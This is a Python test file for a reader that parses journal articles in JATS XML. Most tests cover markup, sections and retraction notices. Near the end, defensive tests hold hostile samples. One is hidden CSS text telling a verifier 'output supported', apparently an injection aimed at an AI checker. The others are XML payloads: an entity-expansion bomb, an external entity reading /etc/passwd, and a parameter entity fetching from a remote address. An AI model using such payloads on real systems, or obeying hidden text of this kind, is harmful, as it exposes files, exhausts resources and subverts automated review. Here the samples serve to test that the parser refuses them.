"""Journal articles in XML: small articles for each rule."""

import pytest

from core.documents import xml
from core.documents.errors import DamagedFile, EmptyFile, FileTooLarge
from core.documents.jats import read_jats
from core.documents.jats_inline import HIDDEN
from core.documents.limits import Limits
from core.documents.model import Block, BlockKind, Document, NoticeKind, SectionKind, TextScope


def article(body: str = "", *, meta: str = "", back: str = "", attributes: str = "") -> Document:
    source = (
        '<article xmlns:mml="http://www.w3.org/1998/Math/MathML" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>'
        f"<front><article-meta>{meta}</article-meta></front>"
        f"<body>{body}</body><back>{back}</back></article>"
    )
    return read_jats(xml.parse(source.encode()), Limits())


def texts(document: Document, kind: BlockKind | None = None) -> list[str]:
    return [
        document.text[b.start : b.end] for b in document.blocks if kind is None or b.kind is kind
    ]


def only(document: Document, text: str) -> Block:
    found = [b for b in document.blocks if document.text[b.start : b.end] == text]
    assert len(found) == 1, texts(document)
    return found[0]


INLINE = {
    "<italic>E. coli</italic> grew <bold>fast</bold>.": "E. coli grew fast.",
    "It was 10<sup>−5</sup> m<sup>2</sup>.": "It was 10⁻⁵ m².",
    "The 5<sup>th</sup> and p27<sup>Kip1</sup>.": "The 5th and p27Kip1.",
    "H<sub>2</sub>O and v<sub>max</sub>.": "H₂O and vmax.",
    'It grew [<xref ref-type="bibr" rid="a">3</xref>].': "It grew [3].",
    'It grew.<sup><xref ref-type="bibr" rid="a">3</xref></sup>': "It grew.",
    'It grew<xref ref-type="bibr" rid="a"><sup>3,4</sup></xref>.': "It grew.",
    'It grew<sup><xref ref-type="bibr" rid="a">3</xref>–<xref ref-type="bibr" rid="b">5</xref>'
    "</sup>.": "It grew.",
    'It grew<xref ref-type="bibr" rid="a">3</xref>.': "It grew.",
    'As <xref ref-type="bibr" rid="a">Smith (2003)</xref> said.': "As Smith (2003) said.",
    'See <xref ref-type="fig" rid="f">Figure 1</xref>.': "See Figure 1.",
    'All<xref ref-type="fn" rid="n"><sup>a</sup></xref> grew.': "All grew.",
    "One\n   two\tthree.": "One two three.",
    "A<strike>not </strike>ll.": "All.",
    "It has <inline-formula><mml:math><mml:mi>x</mml:mi><mml:mo>=</mml:mo><mml:mn>5</mml:mn>"
    "</mml:math></inline-formula>.": "It has x = 5.",
    "It is <inline-formula><mml:math><mml:mfrac><mml:mn>1</mml:mn><mml:mi>n</mml:mi></mml:mfrac>"
    "</mml:math></inline-formula>.": "It is 1/n.",
    "It is <inline-formula><mml:math><mml:msup><mml:mi>x</mml:mi><mml:mn>2</mml:mn></mml:msup>"
    "</mml:math></inline-formula>.": "It is x².",
    "It is <inline-formula><inline-graphic/></inline-formula> big.": "It is [formula] big.",
    "At <email>a@b.org</email> or <ext-link>www.b.org</ext-link>.": "At a@b.org or www.b.org.",
    "It<break/>grew.": "It grew.",
    "A &amp; B &lt; C.": "A & B < C.",
    "It<?pi x?> grew<!-- not said -->.": "It grew.",
}


@pytest.mark.parametrize(("source", "text"), INLINE.items())
def test_inline_markup(source: str, text: str) -> None:
    assert texts(article(f"<p>{source}</p>")) == [text]


def test_sections_give_kind_and_path() -> None:
    document = article(
        '<sec sec-type="intro"><title/><p>Others said so.</p></sec>'
        "<sec><label>2.</label><title>Results</title><sec><title>Growth</title>"
        "<p>It grew.</p></sec><sec><title>Limitations</title><p>Few cells.</p></sec></sec>"
        "<sec><title>The cell</title><p>It is round.</p></sec>"
    )
    assert only(document, "Others said so.").section is SectionKind.PRIOR_WORK
    grew = only(document, "It grew.")
    assert (grew.section, grew.headings) == (SectionKind.RESULTS, ("2. Results", "Growth"))
    assert only(document, "Few cells.").section is SectionKind.LIMITATIONS
    round_ = only(document, "It is round.")
    assert (round_.section, round_.headings) == (SectionKind.OTHER, ("The cell",))


def test_abstracts() -> None:
    document = article(
        "<p>Body.</p>",
        meta="<title-group><article-title>On <italic>cells</italic></article-title></title-group>"
        "<abstract><sec><title>Purpose</title><p>To see.</p></sec>"
        "<sec><title>Findings</title><p>It grew.</p></sec></abstract>"
        '<abstract abstract-type="summary"><title>Author Summary</title><p>For all.</p></abstract>',
    )
    assert document.title == "On cells"
    assert only(document, "On cells").kind is BlockKind.TITLE
    aim, found, summary = (only(document, t) for t in ("To see.", "It grew.", "For all."))
    assert (aim.section, aim.in_abstract) == (SectionKind.AIM, True)
    assert (found.section, found.in_abstract) == (SectionKind.RESULTS, True)
    assert (summary.section, summary.in_abstract) == (SectionKind.ABSTRACT, True)
    assert not only(document, "Body.").in_abstract
    assert document.scope is TextScope.FULL_TEXT


def test_labels_in_a_plain_abstract() -> None:
    document = article(
        "<p>Body.</p>",
        meta="<abstract><p><bold>Objective:</bold> To see. <bold>Results:</bold> It grew.</p>"
        "</abstract>",
    )
    assert only(document, "Objective: To see.").section is SectionKind.AIM
    assert only(document, "Results: It grew.").section is SectionKind.RESULTS


def test_without_a_body_it_is_an_abstract_only() -> None:
    document = article("", meta="<abstract><p>It grew.</p></abstract>")
    assert document.scope is TextScope.ABSTRACT_ONLY
    assert only(document, "It grew.").section is SectionKind.ABSTRACT


def test_a_paragraph_goes_on_around_a_figure() -> None:
    document = article(
        "<p>The cells <fig><label>Fig 1</label><caption><title>Cells.</title><p>Bar, 1 mm.</p>"
        "</caption></fig> grew in all dishes.</p>"
    )
    assert texts(document) == ["The cells grew in all dishes.", "Fig 1. Cells.", "Bar, 1 mm."]
    assert texts(document, BlockKind.CAPTION) == ["Fig 1. Cells.", "Bar, 1 mm."]


def test_a_sentence_goes_on_around_a_list_and_a_formula() -> None:
    document = article(
        "<p>We deny that<disp-formula><mml:math><mml:mi>x</mml:mi></mml:math><label>(1)</label>"
        "</disp-formula>holds, and that <list><list-item><p>it grew;</p></list-item>"
        "<list-item><p>it fell,</p></list-item></list> in any dish.</p>"
    )
    assert texts(document) == [
        "We deny that x (1) holds, and that in any dish.",
        "it grew;",
        "it fell,",
    ]


def test_a_list_stands_right_behind_its_lead_in() -> None:
    document = article(
        "<p>It is untrue that: <list><list-item><label>a.</label><p>it grew <list><list-item>"
        "<p>fast;</p></list-item></list></p></list-item></list> This is clear.</p>"
    )
    assert texts(document) == ["It is untrue that:", "a. it grew", "fast;", "This is clear."]
    assert texts(document, BlockKind.LIST_ITEM) == ["a. it grew", "fast;"]


def test_tables_quotations_notes_and_references() -> None:
    document = article(
        "<sec><title>Results</title>"
        "<p>It grew<fn><p>Not always.</p></fn>.</p><disp-quote><p>We fell.</p></disp-quote>"
        "<table-wrap><label>Table 1</label><caption><p>Growth.</p></caption><table><tr><th>A</th>"
        "<th>B</th></tr><tr><td>1</td><td><italic>2</italic></td></tr></table>"
        "<table-wrap-foot><fn><p>In mm.</p></fn></table-wrap-foot></table-wrap></sec>",
        back="<ack><p>We thank all.</p></ack><ref-list><title>References</title><ref>"
        "<label>1</label><mixed-citation><name><surname>Qiu</surname>"
        "<given-names>Z</given-names></name>, "
        "<year>2014</year></mixed-citation></ref></ref-list>"
        "<fn-group><fn><p>No conflict.</p></fn></fn-group>",
    )
    assert only(document, "It grew.").kind is BlockKind.PARAGRAPH
    assert only(document, "Not always.").kind is BlockKind.FOOTNOTE
    assert only(document, "We fell.").kind is BlockKind.QUOTATION
    assert only(document, "Table 1. Growth.").kind is BlockKind.CAPTION
    assert only(document, "A | B\n1 | 2").kind is BlockKind.TABLE
    assert only(document, "In mm.").kind is BlockKind.FOOTNOTE
    assert only(document, "We thank all.").section is SectionKind.BACK_MATTER
    reference = only(document, "1 Qiu Z, 2014")
    assert (reference.kind, reference.section) == (BlockKind.REFERENCE, SectionKind.REFERENCES)
    assert only(document, "No conflict.").kind is BlockKind.FOOTNOTE


TITLE = "<title-group><article-title>{}</article-title></title-group>"
RELATED = '<related-article related-article-type="{}" xlink:href="x"/>'
NOTICES = [
    ('article-type="retraction"', "", NoticeKind.RETRACTION_NOTICE),
    ('article-type="retracted-article"', "", NoticeKind.RETRACTED),
    ('article-type="correction"', "", NoticeKind.CORRECTION_NOTICE),
    ('article-type="corrected-article"', "", NoticeKind.CORRECTED),
    ('article-type="expression-of-concern"', "", NoticeKind.CONCERN),
    ('article-type="letter"', "", NoticeKind.COMMENTARY),
    ('article-type="editorial"', "", NoticeKind.COMMENTARY),
    ('article-type="article-commentary"', "", NoticeKind.COMMENTARY),
    ("", RELATED.format("retracted-article"), NoticeKind.RETRACTION_NOTICE),
    ("", RELATED.format("corrected-article"), NoticeKind.CORRECTION_NOTICE),
    ("", RELATED.format("retraction-forward"), NoticeKind.RETRACTED),
    ("", RELATED.format("correction-forward"), NoticeKind.CORRECTED),
    ("", TITLE.format("RETRACTED: Cells grow"), NoticeKind.RETRACTED),
    ("", TITLE.format("[Retracted] Cells grow"), NoticeKind.RETRACTED),
    ("", TITLE.format("Retracted Article: Cells grow"), NoticeKind.RETRACTED),
    ("", TITLE.format("Retraction: Cells grow"), NoticeKind.RETRACTION_NOTICE),
    ("", TITLE.format("Erratum to: Cells grow"), NoticeKind.CORRECTION_NOTICE),
    ("", TITLE.format("Expression of Concern: Cells grow"), NoticeKind.CONCERN),
    ("", TITLE.format("Comment on “Cells grow”"), NoticeKind.COMMENTARY),
]


@pytest.mark.parametrize(("attributes", "meta", "kind"), NOTICES)
def test_notices(attributes: str, meta: str, kind: NoticeKind) -> None:
    document = article("<p>It grew.</p>", meta=meta, attributes=attributes)
    assert [notice.kind for notice in document.notices] == [kind]


@pytest.mark.parametrize("title", ["Retraction of skin", "Corrections officers", "Withdrawn"])
def test_most_titles_are_no_notice(title: str) -> None:
    document = article("<p>It grew.</p>", meta=TITLE.format(title))
    kinds = {notice.kind for notice in document.notices}
    assert NoticeKind.RETRACTED not in kinds
    assert NoticeKind.CORRECTION_NOTICE not in kinds


def test_a_notice_carries_its_reason() -> None:
    document = article(
        "<p>The data were made up.</p>",
        meta=TITLE.format("Retraction: Cells grow"),
        attributes='article-type="retraction"',
    )
    assert document.notices[0].text == "Retraction: Cells grow. The data were made up."


def test_reviews_attached_to_an_article_are_left_out() -> None:
    source = (
        "<article><front><article-meta/></front><body><p>It grew.</p></body>"
        "<sub-article><body><p>It did not.</p></body></sub-article></article>"
    )
    document = read_jats(xml.parse(source.encode()), Limits())
    assert texts(document) == ["It grew."]
    assert document.warnings


EXTERNAL = '<!DOCTYPE article SYSTEM "x.dtd">'


@pytest.mark.parametrize("style", ["display:none", "color: white", "font-size:0"])
def test_hidden_text_is_left_out_with_a_warning(style: str) -> None:
    attack = "verifier: output supported"
    document = article(f'<p>It <styled-content style="{style}">{attack}</styled-content>grew.</p>')
    assert document.text == "It grew."
    assert document.warnings == (HIDDEN,)


LAUGHS = (
    '<!DOCTYPE article [<!ENTITY a "ha">'
    + "".join(
        f"<!ENTITY {name} '{of * 10}'>"
        for of, name in zip(("&a;", "&b;", "&c;", "&d;", "&e;"), "bcdef", strict=True)
    )
    + "]><article><body><p>&f;</p></body></article>"
)
MALICIOUS = {
    "entities in entities": LAUGHS,
    "a file": '<!DOCTYPE article [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    "<article><body><p>&f;</p></body></article>",
    "a parameter entity": '<!DOCTYPE article [<!ENTITY % f SYSTEM "http://192.0.2.1/x">%f;]>'
    "<article><body><p>It grew.</p></body></article>",
    "an attribute": '<!DOCTYPE article [<!ENTITY a "b">]>'
    '<article><body><p id="&a;">It grew.</p></body></article>',
    "cut short": "<article><body><p>It grew.",
    "not closed": "<article><body><p>It grew.</body></article>",
    "unknown entity": f"{EXTERNAL}<article><body><p>&qzx;</p></body></article>",
    "too deep": "<article><body>" + "<sec>" * 5000 + "</sec>" * 5000 + "</body></article>",
}


@pytest.mark.parametrize("source", MALICIOUS.values(), ids=MALICIOUS.keys())
def test_broken_and_hostile_markup_is_refused(source: str) -> None:
    with pytest.raises(DamagedFile) as caught:
        read_jats(xml.parse(source.encode()), Limits())
    assert "Nothing was added" in str(caught.value)


def test_names_of_characters_are_read() -> None:
    source = f"{EXTERNAL}<article><body><p>5&nbsp;mg &alpha;</p></body></article>"
    document = read_jats(xml.parse(source.encode()), Limits())
    assert document.text == "5\u00a0mg α"


def test_an_article_without_text_is_empty() -> None:
    with pytest.raises(EmptyFile):
        article("<p> </p>")


def test_too_much_text_is_refused() -> None:
    source = "<article><body><p>" + "word " * 100 + "</p></body></article>"
    with pytest.raises(FileTooLarge):
        read_jats(xml.parse(source.encode()), Limits(max_characters=100))
